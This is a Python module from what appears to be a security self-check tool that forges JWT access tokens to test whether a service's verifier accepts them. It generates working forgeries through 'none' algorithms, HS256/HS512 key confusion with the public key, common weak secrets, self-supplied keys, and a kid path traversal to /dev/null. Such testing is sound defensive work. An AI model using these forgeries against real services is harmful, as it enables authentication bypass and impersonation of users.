"""Forged access tokens: a real one's claims under a signature that no key of the service made."""

from __future__ import annotations

import hmac
import json
from collections.abc import Iterator
from typing import Any, NamedTuple

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from watchword import base64url
from watchword.cli.doctor.findings import Unseen
from watchword.errors import InvalidKey
from watchword.known_secrets import guesses
from watchword.tokens import jwk as jwk_format
from watchword.tokens.keys import SigningKey

_HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
# One request each: what careless verifiers take first.
_FIRST = (b"secret", b"your-256-bit-secret", b"changeme", b"supersecret", b"jwt-secret", b"password", b"")


class Parts(NamedTuple):
    """A token, read without a check."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: str
    signature: str


def parts_of(token: str) -> Parts:
    """Split a token. :raises Unseen: it is no JWT."""
    try:
        head, payload, signature = token.split(".")
        header, claims = (json.loads(base64url.decode(each)) for each in (head, payload))
        base64url.decode(signature)
    except (ValueError, RecursionError):
        raise Unseen("the access token of the service is no JWT") from None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        raise Unseen("the access token of the service is no JWT")
    return Parts(header, claims, f"{head}.{payload}", signature)


def unsigned(real: Parts) -> Iterator[tuple[str, str]]:
    """Yield what was done and the token, for each way to say that there is no signature."""
    for name in ("none", "None", "NONE", "nOnE"):
        yield f"alg {name}", _joined(real.header | {"alg": name}, real.claims) + "."
    yield "alg none, with a signature", _joined(real.header | {"alg": "none"}, real.claims) + f".{real.signature}"
    yield "an empty signature", real.signing_input + "."


def confused(real: Parts, key_set: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Yield tokens under HMAC whose secret is the public key, in each form that a verifier may hold it in.

    :raises Unseen: the key set has no such key.
    """
    kid = real.header.get("kid")
    keys = key_set.get("keys")
    found = [each for each in keys if isinstance(each, dict)] if isinstance(keys, list) else []
    jwk = next((each for each in found if each.get("kid") == kid), None)
    if jwk is None:
        raise Unseen("the key set shows no key for the token: a shared secret signs, and there is nothing to confuse")
    for form, secret in _forms(jwk):
        yield f"HS256 with the public key as {form}", hs(real, secret)
    pem = next(secret for form, secret in _forms(jwk) if form == "PEM")
    yield "HS512 with the public key as PEM", hs(real, pem, "HS512")


def _forms(jwk: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    try:
        public = jwk_format.read_public(jwk)
    except InvalidKey as error:
        raise Unseen(f"the published key cannot be read: {error}") from None
    if isinstance(public, bytes):
        raise Unseen("the key set publishes a shared secret")
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    yield "PEM", pem
    yield "PEM without its last line end", pem.rstrip(b"\n")
    yield "DER", public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    yield "JWK", json.dumps(jwk, separators=(",", ":")).encode()


def guessed(real: Parts) -> Iterator[tuple[str, str]]:
    """Yield tokens under the secrets of tutorials."""
    for secret in _FIRST:
        yield f"HS256 with the secret {secret.decode()!r}", hs(real, secret)


def known_secret(real: Parts) -> str | None:
    """Return the known secret that signed a token, if one did. This sends nothing."""
    name = _HASHES.get(str(real.header.get("alg")))
    if name is None:
        return None
    signature = base64url.decode(real.signature)
    for secret in guesses():
        if hmac.compare_digest(hmac.digest(secret, real.signing_input.encode(), name), signature):
            return secret.decode("utf-8", "replace")
    return None


def is_signed_by(key: SigningKey, real: Parts) -> bool:
    """Tell whether a shared secret signed a token. This sends nothing."""
    return hmac.compare_digest(key.sign(real.signing_input.encode()), base64url.decode(real.signature))


def self_signed(real: Parts) -> Iterator[tuple[str, str]]:
    """Yield tokens that bring or name their own key (RFC 8725 section 3.10)."""
    key = SigningKey.generate("ES256")
    jwk = key.public_jwk()
    header = {"alg": "ES256", "typ": real.header.get("typ", "at+jwt")}
    for what, more in (("jwk", {"jwk": jwk}), ("jwk and its kid", {"jwk": jwk, "kid": key.kid}), ("no kid", {})):
        text = _joined(header | more, real.claims)
        yield f"a key of its own ({what})", f"{text}.{base64url.encode_text(key.sign(text.encode()))}"
    null = real.header | {"alg": "HS256", "kid": "../../../../dev/null"}
    yield "kid ../../../../dev/null", _hmac(_joined(null, real.claims), b"")


def hs(real: Parts, secret: bytes, algorithm: str = "HS256") -> str:
    """Sign the real claims with a shared secret."""
    return _hmac(_joined(real.header | {"alg": algorithm}, real.claims), secret, algorithm)


def _hmac(text: str, secret: bytes, algorithm: str = "HS256") -> str:
    return f"{text}.{base64url.encode_text(hmac.digest(secret, text.encode(), _HASHES[algorithm]))}"


def _joined(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return ".".join(
        base64url.encode_text(json.dumps(each, separators=(",", ":")).encode()) for each in (header, claims)
    )
